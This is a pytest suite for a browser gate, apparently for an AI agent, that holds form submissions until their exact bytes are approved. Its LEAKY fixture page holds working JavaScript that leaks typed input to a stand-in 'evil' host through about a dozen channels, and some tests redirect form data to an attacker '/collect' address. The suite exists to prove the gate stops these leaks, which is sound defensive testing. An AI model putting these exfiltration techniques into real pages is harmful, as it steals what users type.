"""The gate before a real browser: what is held, what arrives, and what never does. The oracle is the server."""

from __future__ import annotations

import asyncio
import ssl
from pathlib import Path

import pytest

from agent.gate.canonical import digest
from agent.gate.holds import Ending, Hold, Window
from agent.gate.problems import Failure
from tests.gate.conftest import Behind, certificate
from tests.parts.recording import Arrived, RecordingSite, Reply

pytestmark = pytest.mark.browser

FORM = """<!doctype html><form method="post" action="/send"><input name="name"><input name="csrf" type="hidden"
value="k1"><button>Send</button></form>"""


async def type_and_press(behind: Behind, site: RecordingSite, path: str = "/") -> None:
    behind.gate.admit(site.url + path)
    await behind.page.goto(site.url + path)
    behind.gate.arm()
    await behind.page.fill("[name=name]", "Eleanor Whitcombe")


async def caught(window: Window) -> Hold:
    return await asyncio.wait_for(window.holds.get(), 20)


async def release(behind: Behind, hold: Hold, number: int = 1) -> None:
    behind.ledger.approved[number] = digest(hold.request, hold.made)
    hold.end(Ending.SEND, number)
    await hold.answer


async def test_an_approved_form_arrives_once_and_byte_for_byte(behind: Behind) -> None:
    with RecordingSite({"/": FORM}) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            hold = await caught(window)
            assert site.writes == []
            held = hold.request.body.read()
            await release(behind, hold)
            await behind.page.wait_for_url("**/send")
        assert [each.body for each in site.writes] == [held] == [b"name=Eleanor+Whitcombe&csrf=k1"]
        assert behind.ledger.events == [("sending", 1), ("answered 200", 1)]


async def test_a_hold_that_is_not_approved_leaves_the_page_as_it_was(behind: Behind) -> None:
    with RecordingSite({"/": FORM}) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            hold = await caught(window)
            hold.end(Ending.STAY)
            await hold.answer
        assert await behind.page.input_value("[name=name]") == "Eleanor Whitcombe"
        assert site.writes == []


async def test_a_release_without_an_approval_sends_nothing(behind: Behind) -> None:
    with RecordingSite({"/": FORM}) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            hold = await caught(window)
            hold.end(Ending.SEND, 1)  # nobody approved number 1
            answer = await hold.answer
        assert not answer.sent
        assert site.writes == []
        assert behind.ledger.events == []


async def test_an_approval_of_other_bytes_sends_nothing(behind: Behind) -> None:
    with RecordingSite({"/": FORM}) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            first = await caught(window)
            behind.ledger.approved[1] = digest(first.request, first.made)
            first.end(Ending.STAY)
            await first.answer
        await behind.page.fill("[name=name]", "Mallory")
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            second = await caught(window)
            second.end(Ending.SEND, 1)
            assert not (await second.answer).sent
        assert site.writes == []


LEAKY = """<!doctype html><form method="post" action="/send"><input name="name"><button>Send</button></form>
<script>
const evil = "EVIL", ws = evil.replace("http", "ws"), quiet = (f) => { try { const p = f(); p?.catch?.(() => 0); }
  catch (e) {} };
document.querySelector("[name=name]").addEventListener("input", (event) => {
  const v = event.target.value;
  quiet(() => { new Image().src = `${evil}/img?d=${v}`; });
  quiet(() => fetch(`${evil}/fetch`, {method: "POST", mode: "no-cors", body: v}));
  quiet(() => fetch(`${evil}/get?d=${v}`, {mode: "no-cors"}));
  quiet(() => navigator.sendBeacon(`${evil}/beacon`, v));
  quiet(() => new WebSocket(`${ws}/ws?d=${v}`));
  quiet(() => new EventSource(`${evil}/events?d=${v}`));
  quiet(() => { const f = document.createElement("iframe"); f.src = `${evil}/frame?d=${v}`; document.body.append(f); });
  quiet(() => { const s = document.createElement("script"); s.src = `${evil}/${btoa(v)}.js`;
                document.body.append(s); });
  quiet(() => fetch(`/own?d=${btoa(v)}`));
  quiet(() => fetch("/own", {method: "POST", body: v}));
  quiet(() => { document.cookie = "stolen=" + btoa(v) + ";path=/"; });
  quiet(() => { history.replaceState(0, "", "?d=" + btoa(v)); new Image().src = "/pixel.png"; });
  quiet(() => fetch("/pixel.png", {headers: {"X-Stolen": btoa(v)}, cache: "reload"}));
  setTimeout(() => { window.sent = true; }, 300);
});
</script><img src="/pixel.png">"""


def carries(requests: list[Arrived], secret: bytes = b"Whitcombe") -> list[str]:
    import base64

    marks = [secret.decode(), base64.b64encode(b"Eleanor " + secret).decode().rstrip("=")]
    return [f"{each.method} {each.target}" for each in requests
            for mark in marks if mark in f"{each.target} {each.headers} {each.body!r}".replace("%20", " ")]


async def test_a_page_that_sends_while_typing_sends_nothing(behind: Behind) -> None:
    with RecordingSite() as evil, RecordingSite() as site:
        site.pages["/"] = LEAKY.replace("EVIL", evil.url)
        behind.gate.name("127.0.0.1", evil.port)  # reachable, so that the policy and not the port rule refuses
        await type_and_press(behind, site)
        await behind.page.wait_for_function("() => window.sent")
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            await caught(window)
        assert evil.arrived == []
        assert carries(site.arrived) == []


async def test_the_same_page_leaks_without_the_gate() -> None:
    from playwright.async_api import async_playwright

    from agent.browser.find import find_browser
    from agent.browser.launch import _is_root

    with RecordingSite() as evil, RecordingSite() as site:
        site.pages["/"] = LEAKY.replace("EVIL", evil.url)
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(executable_path=find_browser().path,
                                                       chromium_sandbox=not _is_root())
            page = await browser.new_page()
            await page.goto(site.url)
            await page.fill("[name=name]", "Eleanor Whitcombe")
            assert evil.wait_for(lambda found: len({each.target.split("?")[0] for each in found}) >= 8)
            await browser.close()
        assert len(carries(evil.arrived)) >= 8
        assert len(carries(site.arrived)) >= 3


@pytest.mark.parametrize("status", [307, 308])
async def test_a_redirect_that_would_carry_the_form_elsewhere_is_held_anew(behind: Behind, status: int) -> None:
    with RecordingSite() as evil:
        with RecordingSite({"/": FORM}, lambda _request: Reply(
                status, headers=(("Location", f"{evil.url}/collect"),))) as site:
            behind.gate.name("127.0.0.1", evil.port)
            await type_and_press(behind, site)
            with behind.gate.window() as window:
                await behind.page.click("button", no_wait_after=True)
                await release(behind, await caught(window))
                again = await caught(window)
                assert again.request.url == f"{evil.url}/collect"
                assert again.third_party
                assert again.redirected
                again.end(Ending.SEND, 1)  # the first approval is spent and was for another address
                assert not (await again.answer).sent
        assert evil.arrived == []
        assert len(site.writes) == 1


async def test_a_redirect_to_another_site_with_data_in_its_address_is_held(behind: Behind) -> None:
    with RecordingSite() as evil:
        with RecordingSite({"/": FORM}, lambda _request: Reply(
                302, headers=(("Location", f"{evil.url}/collect?d=Whitcombe"),))) as site:
            behind.gate.name("127.0.0.1", evil.port)
            await type_and_press(behind, site)
            with behind.gate.window() as window:
                await behind.page.click("button", no_wait_after=True)
                await release(behind, await caught(window))
                assert (await caught(window)).request.url.startswith(evil.url)
        assert evil.arrived == []


async def test_a_site_that_answers_303_to_its_own_page_is_followed(behind: Behind) -> None:
    with RecordingSite({"/": FORM, "/done": "<p>Done"}, lambda _request: Reply(
            303, headers=(("Location", "/done?ref=9"),))) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            await release(behind, await caught(window))
            await behind.page.wait_for_url("**/done?ref=9")
        assert await behind.page.inner_text("p") == "Done"


async def test_a_script_that_submits_twice_gets_one_through(behind: Behind) -> None:
    page = FORM.replace("<button>", """<button type="button" onclick="for (const i of [1, 2, 3]) fetch('/send',
        {method: 'POST', body: new URLSearchParams(new FormData(this.form)).toString()})">""")
    with RecordingSite({"/": page}) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            await release(behind, await caught(window))
            await behind.page.evaluate("() => fetch('/send', {method: 'POST', body: 'name=Eleanor+Whitcombe&csrf=k1'})"
                                       ".catch(() => 0)")
        assert len(site.writes) == 1


async def test_a_site_that_dies_after_reading_is_in_doubt_and_not_asked_again(behind: Behind) -> None:
    with RecordingSite({"/": FORM}, lambda _request: Reply(die=True)) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            hold = await caught(window)
            await release(behind, hold)
            answer = hold.answer.result()
        await behind.page.wait_for_load_state()
        assert answer.sent
        assert answer.status == 0
        assert behind.ledger.events == [("sending", 1), ("unknown", 1)]
        assert len(site.writes) == 1


async def test_a_site_that_is_gone_before_the_first_byte_got_nothing(behind: Behind) -> None:
    with RecordingSite({"/": FORM}) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            hold = await caught(window)
            site.__exit__(None, None, None)
            await release(behind, hold)
        assert not hold.answer.result().sent
        assert behind.ledger.events == [("not_sent", 1)]
        site.__enter__ = lambda: site  # type: ignore[method-assign]  # it is closed already


async def test_a_large_upload_is_spooled_and_arrives_whole(behind: Behind, tmp_path: Path) -> None:
    page = FORM.replace("<form", '<form enctype="multipart/form-data"').replace(
        "<button>", '<input type="file" name="proof"><button>')
    proof = tmp_path / "proof.bin"
    proof.write_bytes(bytes(range(256)) * 4096 * 5)
    with RecordingSite({"/": page}) as site:
        await type_and_press(behind, site)
        await behind.page.set_input_files("[name=proof]", proof)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            hold = await caught(window)
            held = hold.request.body.read()
            await release(behind, hold)
            await behind.page.wait_for_url("**/send")
        assert [each.body for each in site.writes] == [held]
        assert proof.read_bytes() in held
    assert list(tmp_path.glob("tmp*")) == []  # the spool is empty again


async def test_https_is_read_held_and_sent_like_http(trusted_tls: ssl.SSLContext, behind: Behind) -> None:
    with RecordingSite({"/": FORM}, tls=trusted_tls) as site:
        await type_and_press(behind, site)
        with behind.gate.window() as window:
            await behind.page.click("button", no_wait_after=True)
            await release(behind, await caught(window))
            await behind.page.wait_for_url("**/send")
        assert [each.body for each in site.writes] == [b"name=Eleanor+Whitcombe&csrf=k1"]


async def test_a_certificate_that_is_not_trusted_is_refused(behind: Behind, tmp_path: Path) -> None:
    context, _ = certificate(tmp_path)
    with RecordingSite({"/": FORM}, tls=context) as site:
        behind.gate.admit(site.url)
        response = await behind.page.goto(site.url)
        assert response is not None
        assert response.status == 502
        assert behind.gate.failures[site.url + "/"].kind is Failure.CERTIFICATE
        assert site.arrived == []


async def test_ports_and_private_addresses_that_nobody_named_are_refused(behind: Behind) -> None:
    with RecordingSite() as router, RecordingSite({"/": FORM}) as site:
        behind.gate.admit(site.url)
        await behind.page.goto(site.url)
        found = await behind.page.evaluate(
            "(url) => fetch(url, {mode: 'no-cors'}).then(() => 'got', () => 'refused')", router.url)
        assert router.arrived == []
        assert found in ("got", "refused")  # an opaque 403 or an error; the router's log is what counts


async def test_closing_the_gate_sends_nothing_that_was_held(tmp_path: Path) -> None:
    from agent.browser.launch import gated_browser
    from agent.gate.proxy import Gate
    from tests.gate.conftest import RecordingLedger

    gate = Gate(tmp_path, RecordingLedger())
    with RecordingSite({"/": FORM}) as site:
        async with gated_browser(gate, tmp_path) as browser:
            behind = Behind(gate, await browser.context.new_page(), RecordingLedger())
            await type_and_press(behind, site)
            window = gate.window()
            with window as open_window:
                await behind.page.click("button", no_wait_after=True)
                await caught(open_window)
                await gate.close()
        assert site.writes == []
